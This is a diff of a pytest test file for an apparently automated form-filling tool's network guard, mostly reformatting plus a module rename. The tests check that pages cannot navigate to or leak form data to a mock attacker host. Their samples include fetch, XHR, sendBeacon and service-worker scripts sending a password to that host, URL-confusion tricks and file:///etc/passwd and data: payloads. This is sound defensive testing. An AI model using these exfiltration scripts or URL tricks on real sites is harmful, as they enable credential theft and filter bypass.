@@ -13,10 +13,10 @@ import json
 from pathlib import Path
 
 import pytest
-
-from assistant import netguard
 from attack_site import FORM, AttackSite
 from helpers import run_cli, submissions, write_case
+
+from assistant.language import urls
 
 HOSTS_LINE = 4
 FLOW = """\
@@ -61,8 +61,19 @@ def run_flow(tmp_path: Path, provider: AttackSite, steps: str, *, extra: str = "
     flows = tmp_path / "flows"
     flows.mkdir(exist_ok=True)
     (flows / "demo.yaml").write_text(FLOW.format(steps=steps, extra=extra), encoding="utf-8")
-    return run_cli("submit", "demo", "--case", str(write_case(tmp_path)), "--base-url", provider.url, "--yes",
-                   *args, home=tmp_path / "home", env={"ASSISTANT_FLOWS": str(flows)}, timeout=120)
+    return run_cli(
+        "submit",
+        "demo",
+        "--case",
+        str(write_case(tmp_path)),
+        "--base-url",
+        provider.url,
+        "--yes",
+        *args,
+        home=tmp_path / "home",
+        env={"ASSISTANT_FLOWS": str(flows)},
+        timeout=120,
+    )
 
 
 def page_with(script_or_html: str) -> str:
@@ -72,8 +83,10 @@ def page_with(script_or_html: str) -> str:
 def assert_blocked(done, attacker: AttackSite, provider: AttackSite, words: str):
     assert attacker.log == []
     assert done.returncode == 1, done.stderr
-    assert f"blocked: the page tried {words} 127.0.0.2:{attacker.port} (not in allowed_hosts of flow demo, " \
-           f"line {HOSTS_LINE})" in done.stderr
+    assert (
+        f"blocked: the page tried {words} 127.0.0.2:{attacker.port} (not in allowed_hosts of flow demo, "
+        f"line {HOSTS_LINE})" in done.stderr
+    )
     assert "Traceback" not in done.stderr
     assert [h.path for h in provider.log if h.method == "POST"] == []  # the form was never sent
     assert "nothing was submitted" in done.stderr
@@ -106,8 +119,7 @@ def test_meta_refresh_to_another_host_is_blocked(tmp_path, provider, attacker):
 
 
 def test_script_navigation_to_another_host_is_blocked(tmp_path, provider, attacker):
-    provider.pages["/start"] = page_with(f"<script>setTimeout(() => location = '{attacker.url}/landing', 50)"
-                                         "</script>")
+    provider.pages["/start"] = page_with(f"<script>setTimeout(() => location = '{attacker.url}/landing', 50)</script>")
     done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", timeout: 3 }\n' + FILL_AND_SEND)
     assert_blocked(done, attacker, provider, "to open")
 
@@ -117,8 +129,10 @@ def test_form_posting_to_another_host_never_sends_the_fields(tmp_path, provider,
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
     assert attacker.log == []  # neither name= nor pw= left the browser
     assert done.returncode == 1
-    assert (f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts of flow "
-            f"demo, line {HOSTS_LINE})") in done.stderr
+    assert (
+        f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts of flow "
+        f"demo, line {HOSTS_LINE})"
+    ) in done.stderr
     # The click did happen: said truthfully, and journalled as pending.
     assert "The submit button had already been clicked" in done.stderr
     assert "nothing reached the blocked host" in done.stderr and "recorded as pending" in done.stderr
@@ -133,8 +147,7 @@ def test_form_redirected_with_its_body_to_another_host_never_arrives(tmp_path, p
     assert attacker.log == []
     assert [h.path for h in provider.log if h.method == "POST"] == ["/done"]
     assert done.returncode == 1
-    assert f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts" \
-        in done.stderr
+    assert f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts" in done.stderr
     assert "The submit button had already been clicked" in done.stderr
 
 
@@ -148,16 +161,20 @@ def test_another_port_of_the_allowed_host_is_not_allowed(tmp_path, provider, att
     done = run_flow(tmp_path, provider, f'  - goto: "{other_port.url}/form"\n' + FILL_AND_SEND)
     assert other_port.log == [] and provider.paths() == ["/start"]
     assert done.returncode == 2
-    assert f"demo.yaml:9:5: steps[0].goto: 127.0.0.1:{other_port.port} is not in allowed_hosts (127.0.0.1)" \
-        in done.stderr
+    assert (
+        f"demo.yaml:9:5: steps[0].goto: 127.0.0.1:{other_port.port} is not in allowed_hosts (127.0.0.1)" in done.stderr
+    )
 
 
-@pytest.mark.parametrize("template, why", [
-    ("http://127.0.0.2:{port}\\\\@127.0.0.1/landing", "has a backslash"),
-    ("http://127.0.0.1@127.0.0.2:{port}/landing", "user name or password before the host"),
-    ("http://127.0.0.1:{p1}@127.0.0.2:{port}/landing", "user name or password before the host"),
-    ("http://127.0.0.1:{p1}/land ing", "space or control character"),
-])
+@pytest.mark.parametrize(
+    "template, why",
+    [
+        ("http://127.0.0.2:{port}\\\\@127.0.0.1/landing", "has a backslash"),
+        ("http://127.0.0.1@127.0.0.2:{port}/landing", "user name or password before the host"),
+        ("http://127.0.0.1:{p1}@127.0.0.2:{port}/landing", "user name or password before the host"),
+        ("http://127.0.0.1:{p1}/land ing", "space or control character"),
+    ],
+)
 def test_urls_browsers_and_python_read_differently_are_refused(tmp_path, provider, attacker, template, why):
     url = template.format(port=attacker.port, p1=provider.port)
     done = run_flow(tmp_path, provider, f'  - goto: "{url}"\n' + FILL_AND_SEND)
@@ -167,36 +184,40 @@ def test_urls_browsers_and_python_read_differently_are_refused(tmp_path, provide
     assert f"{tmp_path / 'flows' / 'demo.yaml'}:9:5: steps[0].goto: the URL" in line and why in line
 
 
-@pytest.mark.parametrize("url, scheme", [
-    ("file:///etc/passwd", "file"),
-    ("javascript:fetch('http://127.0.0.2/')", "javascript"),
-    ("data:text/html,<script>fetch('http://127.0.0.2:{port}/leak')</script>", "data"),
-    ("blob:http://127.0.0.1/x", "blob"),
-])
+@pytest.mark.parametrize(
+    "url, scheme",
+    [
+        ("file:///etc/passwd", "file"),
+        ("javascript:fetch('http://127.0.0.2/')", "javascript"),
+        ("data:text/html,<script>fetch('http://127.0.0.2:{port}/leak')</script>", "data"),
+        ("blob:http://127.0.0.1/x", "blob"),
+    ],
+)
 def test_non_http_gotos_are_refused_naming_the_scheme(tmp_path, provider, attacker, url, scheme):
     done = run_flow(tmp_path, provider, f'  - goto: "{url.format(port=attacker.port)}"\n' + FILL_AND_SEND)
     assert attacker.log == [] and provider.log == []
     assert done.returncode == 2
-    assert f"steps[0].goto: a {scheme}: URL is not opened (a flow opens only http:// and https:// pages)" \
-        in done.stderr
+    assert f"steps[0].goto: a {scheme}: URL is not opened (a flow opens only http:// and https:// pages)" in done.stderr
     assert "None is not in allowed_hosts" not in done.stderr
 
 
 def test_login_check_url_on_another_host_is_refused(tmp_path, provider, attacker):
     home = tmp_path / "home"
     (home / "sessions").mkdir(parents=True)
-    (home / "sessions" / "demo.json").write_text(json.dumps({"saved_at": "x", "state": {"cookies": [],
-                                                                                         "origins": []}}))
-    login = (f'requires_login: true\nlogin:\n  url: "{{{{ base_url }}}}/login"\n'
-             f'  check_url: "{attacker.url}/check"\n  logged_in: "#me"\n')
+    (home / "sessions" / "demo.json").write_text(json.dumps({"saved_at": "x", "state": {"cookies": [], "origins": []}}))
+    login = (
+        f'requires_login: true\nlogin:\n  url: "{{{{ base_url }}}}/login"\n'
+        f'  check_url: "{attacker.url}/check"\n  logged_in: "#me"\n'
+    )
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND, extra=login)
     assert attacker.log == [] and provider.log == []
     assert done.returncode == 2
     assert f"demo.yaml:8:3: login.check_url: 127.0.0.2:{attacker.port} is not in allowed_hosts" in done.stderr
     # On the allowed host, but redirecting away: blocked in the browser.
     provider.pages["/check"] = (302, {"Location": f"{attacker.url}/check"}, "")
-    done = run_flow(tmp_path, provider, START + FILL_AND_SEND,
-                    extra=login.replace(f"{attacker.url}/check", "{{ base_url }}/check"))
+    done = run_flow(
+        tmp_path, provider, START + FILL_AND_SEND, extra=login.replace(f"{attacker.url}/check", "{{ base_url }}/check")
+    )
     assert attacker.log == [] and provider.paths() == ["/check"]
     assert done.returncode == 1
     assert f"blocked: the page tried to open 127.0.0.2:{attacker.port} (not in allowed_hosts" in done.stderr
@@ -206,9 +227,16 @@ def test_assistant_login_refuses_a_login_url_on_another_host(tmp_path, provider,
     flows = tmp_path / "flows"
     flows.mkdir()
     flow = flows / "demo.yaml"
-    flow.write_text(FLOW.format(steps=START + FILL_AND_SEND, extra=(
-        f'requires_login: true\nlogin:\n  url: "http://127.0.0.1@127.0.0.2:{attacker.port}/login"\n'
-        '  logged_in: "#me"\n')), encoding="utf-8")
+    flow.write_text(
+        FLOW.format(
+            steps=START + FILL_AND_SEND,
+            extra=(
+                f'requires_login: true\nlogin:\n  url: "http://127.0.0.1@127.0.0.2:{attacker.port}/login"\n'
+                '  logged_in: "#me"\n'
+            ),
+        ),
+        encoding="utf-8",
+    )
     done = run_cli("login", str(flow), "--base-url", provider.url, home=tmp_path / "home")
     assert attacker.log == [] and provider.log == []
     assert done.returncode == 2
@@ -226,7 +254,8 @@ def test_iframe_from_another_host_is_blocked(tmp_path, provider, attacker):
 
 def test_popup_to_another_host_is_blocked(tmp_path, provider, attacker):
     provider.pages["/start"] = page_with(
-        f"""<button id="pop" type="button" onclick="window.open('{attacker.url}/pop')">Chat</button>""")
+        f"""<button id="pop" type="button" onclick="window.open('{attacker.url}/pop')">Chat</button>"""
+    )
     done = run_flow(tmp_path, provider, START + '  - click: "#pop"\n' + FILL_AND_SEND)
     assert_blocked(done, attacker, provider, "to open a pop-up at")
 
@@ -241,12 +270,15 @@ def test_data_frame_script_cannot_reach_another_host(tmp_path, provider, attacke
 # ------------------------------------------------------- scripts sending data
 
 
-@pytest.mark.parametrize("script", [
-    "fetch('{a}/leak', {{method: 'POST', body: 'pw=s3cret'}})",
-    "fetch('{a}/leak?pw=s3cret')",
-    "const x = new XMLHttpRequest(); x.open('POST', '{a}/leak'); x.send('pw=s3cret')",
-    "navigator.sendBeacon('{a}/beacon', 'pw=s3cret')",
-])
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch('{a}/leak', {{method: 'POST', body: 'pw=s3cret'}})",
+        "fetch('{a}/leak?pw=s3cret')",
+        "const x = new XMLHttpRequest(); x.open('POST', '{a}/leak'); x.send('pw=s3cret')",
+        "navigator.sendBeacon('{a}/beacon', 'pw=s3cret')",
+    ],
+)
 def test_scripts_cannot_send_data_to_another_host(tmp_path, provider, attacker, script):
     provider.pages["/start"] = page_with(f"<script>{script.format(a=attacker.url)}</script>")
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
@@ -262,7 +294,8 @@ def test_websocket_to_another_host_is_blocked(tmp_path, provider, attacker):
 def test_websocket_to_the_allowed_host_still_opens(tmp_path, provider, attacker):
     provider.pages["/start"] = FORM.replace('<button id="send"', '<button id="send" hidden') + (
         f"<script>const s = new WebSocket('ws://127.0.0.1:{provider.port}/live');"
-        "s.onopen = () => document.querySelector('#send').hidden = false;</script>")
+        "s.onopen = () => document.querySelector('#send').hidden = false;</script>"
+    )
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
     assert done.returncode == 0, done.stderr
     assert "/live" in provider.paths() and attacker.log == []
@@ -271,10 +304,12 @@ def test_websocket_to_the_allowed_host_still_opens(tmp_path, provider, attacker)
 def test_service_workers_are_not_registered(tmp_path, provider, attacker):
     # A service worker's own requests would bypass the page's routes: none may start.
     provider.pages["/start"] = page_with("<script>navigator.serviceWorker.register('/sw.js')</script>")
-    provider.pages["/sw.js"] = (200, {"Content-Type": "text/javascript"},
-                                f"fetch('{attacker.url}/from-worker', {{method: 'POST', body: 'x'}})")
-    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", state: hidden }\n'
-                    + FILL_AND_SEND)
+    provider.pages["/sw.js"] = (
+        200,
+        {"Content-Type": "text/javascript"},
+        f"fetch('{attacker.url}/from-worker', {{method: 'POST', body: 'x'}})",
+    )
+    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", state: hidden }\n' + FILL_AND_SEND)
     assert attacker.log == []
     assert "/sw.js" not in provider.paths()
     assert done.returncode == 0, done.stderr
@@ -284,8 +319,9 @@ def test_service_workers_are_not_registered(tmp_path, provider, attacker):
 
 
 def test_third_party_image_is_blocked_and_noted_and_the_run_goes_on(tmp_path, provider, attacker):
-    provider.pages["/start"] = page_with(f'<img src="{attacker.url}/pixel.png?u=anna">'
-                                         f'<img src="{attacker.url}/other.png">')
+    provider.pages["/start"] = page_with(
+        f'<img src="{attacker.url}/pixel.png?u=anna"><img src="{attacker.url}/other.png">'
+    )
     out = tmp_path / "evidence"
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND, args=("--out", str(out)))
     assert attacker.log == []
@@ -300,8 +336,11 @@ def test_third_party_image_is_blocked_and_noted_and_the_run_goes_on(tmp_path, pr
     manifest = json.loads((out / "manifest.json").read_text())
     assert "logs/blocked.jsonl" in {f["path"] for f in manifest["files"]}
     # Behind the guard's proxy the evidence still names the provider's own address.
-    shots = [f["meta"] for f in manifest["files"] if f["path"].startswith("screenshots/") and "server_port" in
-             (f.get("meta") or {})]
+    shots = [
+        f["meta"]
+        for f in manifest["files"]
+        if f["path"].startswith("screenshots/") and "server_port" in (f.get("meta") or {})
+    ]
     assert shots and all(m["server_port"] == provider.port and m["server_ip"] == "127.0.0.1" for m in shots)
 
 
@@ -319,24 +358,38 @@ def test_open_redirect_on_the_allowed_host_does_not_carry_data_away(tmp_path, pr
 def test_image_from_allowed_resources_loads(tmp_path, provider, attacker):
     provider.pages["/start"] = page_with(f'<img src="{attacker.url}/logo.png">')
     attacker.pages["/logo.png"] = (200, {"Content-Type": "image/svg+xml"}, "<svg xmlns='http://www.w3.org/2000/svg'/>")
-    done = run_flow(tmp_path, provider, START + FILL_AND_SEND,
-                    extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n')
+    done = run_flow(
+        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
+    )
     assert done.returncode == 0, done.stderr
     assert [(h.method, h.path) for h in attacker.log] == [("GET", "/logo.png")]
 
 
 def test_allowed_resources_take_no_data(tmp_path, provider, attacker):
-    provider.pages["/start"] = page_with(f"<script>fetch('{attacker.url}/collect', {{method: 'POST', body: 'x'}})"
-                                         "</script>")
-    done = run_flow(tmp_path, provider, START + FILL_AND_SEND,
-                    extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n')
+    provider.pages["/start"] = page_with(
+        f"<script>fetch('{attacker.url}/collect', {{method: 'POST', body: 'x'}})</script>"
+    )
+    done = run_flow(
+        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
+    )
     assert_blocked(done, attacker, provider, "to send data to")
 
 
 def test_the_demo_still_confirms_with_the_guard_on(portal, tmp_path):
     out = tmp_path / "evidence"
-    done = run_cli("submit", "demo", "--case", str(write_case(tmp_path)), "--base-url", portal.url, "--yes",
-                   "--json", "--out", str(out), home=tmp_path / "home")
+    done = run_cli(
+        "submit",
+        "demo",
+        "--case",
+        str(write_case(tmp_path)),
+        "--base-url",
+        portal.url,
+        "--yes",
+        "--json",
+        "--out",
+        str(out),
+        home=tmp_path / "home",
+    )
     assert done.returncode == 0, done.stderr
     assert json.loads(done.stdout)["confirmation"] == portal.received[0].number
     assert "blocked" not in done.stderr
@@ -353,27 +406,58 @@ def test_bad_allowed_hosts_entries_are_errors_naming_the_line(tmp_path, provider
     done = run_flow(tmp_path, provider, START + FILL_AND_SEND, extra=extra)
     assert done.returncode == 2 and provider.log == []
     flow = tmp_path / "flows" / "demo.yaml"
-    assert f"{flow}:6:5: allowed_resources[0]: 'https://0x7f.1' has a host '0x7f.1' that a browser would read " \
-           "as a different IP address" in done.stderr
+    assert (
+        f"{flow}:6:5: allowed_resources[0]: 'https://0x7f.1' has a host '0x7f.1' that a browser would read "
+        "as a different IP address" in done.stderr
+    )
     assert f"{flow}:7:5: allowed_resources[1]: 'ftp://cdn.example': only http:// and https://" in done.stderr
     assert f"{flow}:8:5: allowed_resources[2]: 'cdn.example/path' is not a host" in done.stderr
 
 
 def test_origin_entries_match_scheme_host_and_port():
-    policy = netguard.Policy("x", 1, [netguard.parse_entry(e) for e in
-                                      ("example.com", "*.shop.example", "api.example:8443", "https://pay.example")])
-    allowed = ["http://example.com/", "https://example.com/a", "https://shop.example/", "https://a.b.shop.example/",
-               "https://api.example:8443/", "http://api.example:8443/", "https://pay.example:443/x"]
-    refused = ["http://example.com:8080/", "https://evil-example.com/", "https://shop.example.evil/",
-               "https://api.example/", "http://pay.example/", "https://pay.example:8443/", "http://0x7f.1/",
-               "http://2130706433/", "http://example.com%2e/", "http://EXAMPLE.com\\@evil/"]
+    policy = urls.Policy(
+        "x",
+        1,
+        [urls.parse_entry(e) for e in ("example.com", "*.shop.example", "api.example:8443", "https://pay.example")],
+    )
+    allowed = [
+        "http://example.com/",
+        "https://example.com/a",
+        "https://shop.example/",
+        "https://a.b.shop.example/",
+        "https://api.example:8443/",
+        "http://api.example:8443/",
+        "https://pay.example:443/x",
+    ]
+    refused = [
+        "http://example.com:8080/",
+        "https://evil-example.com/",
+        "https://shop.example.evil/",
+        "https://api.example/",
+        "http://pay.example/",
+        "https://pay.example:8443/",
+        "http://0x7f.1/",
+        "http://2130706433/",
+        "http://example.com%2e/",
+        "http://EXAMPLE.com\\@evil/",
+    ]
     for url in allowed:
         policy.check(url)
     for url in refused:
-        with pytest.raises(netguard.UnsafeURL):
+        with pytest.raises(urls.UnsafeURL):
             policy.check(url)
-    for entry in ("*.com", "*", "ex*ample.com", "user@example.com", "example.com/path", "ftp://example.com",
-                  "example.com:0", "example.com:99999", "0x7f.1", "exa mple.com"):
+    for entry in (
+        "*.com",
+        "*",
+        "ex*ample.com",
+        "user@example.com",
+        "example.com/path",
+        "ftp://example.com",
+        "example.com:0",
+        "example.com:99999",
+        "0x7f.1",
+        "exa mple.com",
+    ):
         with pytest.raises(ValueError):
-            netguard.parse_entry(entry)
-    assert netguard.origin_of("HTTP://Example.COM:8080/x?y") == "http://example.com:8080"
+            urls.parse_entry(entry)
+    assert urls.origin_of("HTTP://Example.COM:8080/x?y") == "http://example.com:8080"
